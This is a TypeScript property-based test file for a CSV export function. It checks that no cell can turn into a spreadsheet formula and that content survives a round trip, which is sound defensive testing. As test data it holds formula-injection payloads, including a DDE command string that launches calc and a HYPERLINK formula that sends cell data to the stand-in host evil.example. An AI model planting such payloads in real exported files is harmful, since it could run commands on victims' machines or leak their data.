import fc from 'fast-check'
import papaparse from 'papaparse'
import { describe, expect, it } from 'vitest'
import { toCsv } from './to-csv'

/** The cells of a file as a spreadsheet takes them whose separator is `separator`: a quotation mark means something at the start of a cell alone. */
function cellsOf(file: string, separator: string): string[] {
  const cells: string[] = []
  let at = 0
  while (at < file.length) {
    let cell = ''
    if (file[at] === '"') {
      for (at++; at < file.length; at++) {
        if (file[at] !== '"') cell += file[at]
        else if (file[at + 1] === '"') cell += file[at++]
        else break
      }
      at++
    }
    for (; at < file.length && !`${separator}\r\n`.includes(file[at] ?? ''); at++) cell += file[at]
    at++
    cells.push(cell)
  }
  return cells
}

const isFormula = (cell: string) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell)

const starts = ['=', '+', '-', '@', '\t=', '\n=', '\r=', '＝', '＋', '－', '＠', ' =', '"=', '""=']
const formulas = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example?"&A1,"x")',
  'SUM(A1:A9)',
  '1;=2',
]
const before = ['', 'x', 'x;', 'x";', 'x"";', 'x;"', 'x,', 'x","', 'x\t', 'x\r\n', 'x; ', ';;', '{"name":"a;']
const hostile = before.flatMap((text) =>
  starts.flatMap((start) => formulas.map((formula) => `${text}${start}${formula}`)),
)

describe('toCsv', () => {
  it('quotes each cell, and ends every line as the RFC says', () => {
    expect(
      toCsv([
        ['a', 'b,c'],
        ['say "hi"', 'two\nlines'],
      ]),
    ).toBe('"a","b,c"\r\n"say ""hi""","two\nlines"\r\n')
  })

  it.each([',', ';', '\t'])('makes no cell a formula where %j is between them', (separator) => {
    const made = hostile.flatMap((cell) =>
      cellsOf(toCsv([['first', cell, 'last']]), separator)
        .filter(isFormula)
        .map((found) => ({ cell, found })),
    )
    expect(made).toEqual([])
  })

  it('makes no cell a formula, and loses nothing, whatever is in it', () => {
    const text = fc.string({ unit: fc.constantFrom(...'=+-@\'" ;,\t\r\na1＝') })
    const rows = fc.array(
      fc.array(fc.oneof(text, fc.constantFrom(...hostile)), { minLength: 2, maxLength: 4 }),
      {
        minLength: 1,
      },
    )
    fc.assert(
      fc.property(rows, (written) => {
        const file = toCsv(written)
        for (const separator of [',', ';', '\t'])
          expect(cellsOf(file, separator).filter(isFormula)).toEqual([])
        const read = papaparse.parse<string[]>(file.slice(0, -2), { delimiter: ',', newline: '\r\n' }).data
        const bare = (cells: string[][]) => cells.map((row) => row.map((cell) => cell.replaceAll("'", '')))
        expect(bare(read)).toEqual(bare(written))
      }),
      { numRuns: 300 },
    )
  })

  it('leaves what is no formula as it is', () => {
    const cells = [
      '2026-11-20',
      'Ada (ada@example.com)',
      '{"name":"a = b"}',
      'a; b',
      '127.0.0.1',
      "O'Neill",
      '',
    ]
    expect(papaparse.parse<string[]>(toCsv([cells]), { delimiter: ',' }).data[0]).toEqual(cells)
  })
})
